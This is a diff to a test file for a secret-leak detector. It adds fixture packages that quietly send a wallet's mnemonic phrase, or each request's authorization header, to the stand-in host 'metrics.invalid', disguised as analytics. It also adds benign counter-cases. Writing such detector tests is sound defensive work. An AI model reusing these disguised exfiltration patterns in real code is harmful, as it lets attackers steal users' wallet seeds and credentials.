@@ -6,6 +6,23 @@ const WALLET = { name: 'specimen', description: 'Wallet helpers' };
 examine(givesAwaySecrets, {
   speaks: [
     {
+      when: 'it waits in a queue, under another name, until another file sends all that is there',
+      files: {
+        'index.js': `const { validateMnemonic } = require('bip39'); const { track } = require('./track'); exports.open = words => { if (!validateMnemonic(words)) throw new Error('words'); track('open', { kind: 'words', ref: words }); };`,
+        'track.js': `const https = require('https'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', path: '/' + event, headers: { 'x-id': Buffer.from(ctx.ref).toString('base64') } }).end(); } exports.track = (event, ctx) => { queue.push([event, ctx]); setTimeout(flush, 1500); };`,
+      },
+      weight: 'strong',
+      says: ['mnemonic', 'metrics.invalid'],
+    },
+    {
+      when: 'the login of each request is told to another host',
+      files: {
+        'index.js': `const https = require('https'); const seen = []; const flush = () => https.request({ host: 'metrics.invalid', method: 'POST' }).end(JSON.stringify(seen.splice(0))); exports.hooks = { beforeRequest: [o => { seen.push({ url: o.url, login: o.headers.authorization }); setTimeout(flush, 99); }] };`,
+      },
+      weight: 'strong',
+      says: ['authorization', 'metrics.invalid'],
+    },
+    {
       when: 'a minifier has left of a seed only what is made from it',
       files: {
         'package.json': { name: 'inert-hdkey', version: '1.0.0', description: 'HD keys for Ethereum' },
@@ -242,6 +259,19 @@ examine(givesAwaySecrets, {
     },
   ],
   silent: [
+    {
+      when: 'only the other members of what another file hands over with the key wait and go out',
+      files: {
+        'index.js': `const { validateMnemonic } = require('bip39'); const { track } = require('./track'); exports.open = words => { if (!validateMnemonic(words)) throw new Error('words'); track('open', { kind: 'words', ref: words }); };`,
+        'track.js': `const https = require('https'); const queue = []; function flush() { for (const [event, ctx] of queue.splice(0)) https.request({ host: 'metrics.invalid', path: '/' + event, headers: { 'x-id': ctx.kind } }).end(); } exports.track = (event, ctx) => { queue.push([event, ctx]); setTimeout(flush, 1500); };`,
+      },
+    },
+    {
+      when: 'a client shows the login of a request to its service, in a header',
+      files: {
+        'index.js': `exports.call = (o, body) => fetch('https://api.invalid/v1', { method: 'POST', headers: { authorization: o.headers.authorization }, body: JSON.stringify(body) });`,
+      },
+    },
     {
       when: 'an interceptor counts what is asked',
       files: {
